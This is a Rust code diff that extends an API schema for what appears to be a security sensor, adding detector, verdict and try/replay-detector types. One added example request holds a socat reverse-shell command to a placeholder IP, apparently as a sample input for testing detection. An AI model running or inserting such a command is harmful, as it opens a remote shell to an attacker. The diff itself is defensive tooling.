@@ -12,6 +12,7 @@ pub(super) fn body_example(name: &str) -> Option<Value> {
         "Token" | "ServiceAccountKey" => {
             json!({"bindings": [{"role": "viewer"}], "expireTime": "2099-01-01T00:00:00Z"})
         }
+        "TryDetectorsRequest" => json!({"commandLine": "socat TCP:203.0.113.7:4444 EXEC:/bin/sh"}),
         "IssueCertificateRequest" => json!({"lifeSeconds": "86400"}),
         "RevokedCertificate" => json!({"fingerprint": "0f".repeat(32), "reason": "The node was replaced."}),
         _ => return None,
@@ -20,6 +21,10 @@ pub(super) fn body_example(name: &str) -> Option<Value> {
 
 fn bindings() -> Value {
     json!({"type": "array", "minItems": 1, "maxItems": 100, "items": super::reference("Binding")})
+}
+
+fn texts() -> Value {
+    json!({"type": "array", "items": text()})
 }
 
 /// Every schema by its name.
@@ -60,6 +65,7 @@ pub(super) fn schemas() -> Value {
                 "description": "How long its oldest finding had been waiting when it was last heard.",
             },
             "lost": {"type": "object", "additionalProperties": int64(), "description": "Since it started, by kind."},
+            "detectors": {"type": "object", "description": "What each detector has cost since the sensor's start: events, nanos."},
         })),
         "Configuration": object(json!({
             "version": text(), "listen": text(), "organization": {"type": ["string", "null"]},
@@ -82,6 +88,30 @@ pub(super) fn schemas() -> Value {
                 "key": text(), "value": text(), "env": {"type": ["string", "null"]}, "helm": {"type": ["string", "null"]},
                 "documentation": text(),
             }))},
+        })),
+        "Detector": object(json!({
+            "module": text(), "category": text(), "severity": text(), "onByDefault": {"type": "boolean"},
+            "description": {"type": "string", "description": "Markdown."}, "tactic": text(),
+            "additionalTactics": texts(), "techniques": texts(), "evidence": texts(), "needs": texts(),
+            "reproduction": text(),
+            "cost": {"anyOf": [super::reference("DetectorCost"), {"type": "null"}]},
+        })),
+        "DetectorCost": object(json!({"events": int64(), "nanosPerEvent": {"type": "integer"}})),
+        "ListDetectorsResponse": object(json!({"detectors": list("Detector")})),
+        "DetectorCondition": object(json!({
+            "condition": text(), "state": {"type": "string", "enum": ["TRUE", "FALSE", "UNKNOWN"]}, "reason": text(),
+        })),
+        "DetectorVerdict": object(json!({
+            "module": text(), "verdict": {"type": "string", "enum": ["FOUND", "QUIET", "UNDECIDED"]},
+            "conditions": list("DetectorCondition"), "pid": int64(), "commandLine": text(),
+        })),
+        "TryDetectorsRequest": needing(&["commandLine"], json!({
+            "commandLine": {"type": "string", "minLength": 1, "maxLength": 4_096},
+        })),
+        "TryDetectorsResponse": object(json!({"verdicts": list("DetectorVerdict")})),
+        "ReplayDetectorsResponse": object(json!({
+            "records": int64(), "findings": list("FindingResult"), "findingsLeftOut": int64(),
+            "verdicts": list("DetectorVerdict"),
         })),
         "ListSensorsResponse": page("sensors", "Sensor"),
         "IssueCertificateRequest": object(json!({
